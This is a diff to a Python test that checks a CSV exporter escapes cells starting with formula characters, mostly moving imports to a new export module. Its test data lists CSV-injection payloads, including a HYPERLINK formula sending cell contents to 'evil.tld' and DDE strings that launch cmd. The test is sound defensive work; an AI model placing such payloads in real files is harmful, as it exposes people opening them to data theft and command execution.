@@ -6,8 +6,9 @@ import csv
 
 import pyarrow as pa
 
-from manifests import io, schema
-from manifests.io import csv_safe_table
+from manifests import schema
+from manifests.ops.export import export
+from manifests.ops.export.csv import CSV_FORMULA_START, csv_safe_table
 from tests.manifests.conftest import make_records
 
 EVIL = ["=HYPERLINK(\"http://evil.tld/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -20,11 +21,12 @@ def test_export_csv_escapes_formula_cells(tmp_path):
         rec["text"] = evil
         rec["attribution"] = evil
     recs[0]["text"] = "No acute findings = normal"        # '=' later in the text: untouched
-    path = io.export(schema.from_records(recs), tmp_path / "m.csv")
+    path = tmp_path / "m.csv"
+    export(schema.from_records(recs), path)
     rows = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
     for row, evil in zip(rows, EVIL):
         assert row["attribution"] == "'" + evil
-        assert not row["attribution"].startswith(io.CSV_FORMULA_START)
+        assert not row["attribution"].startswith(CSV_FORMULA_START)
     assert rows[0]["text"] == "No acute findings = normal"
     assert rows[1]["text"] == "'" + EVIL[1]
 
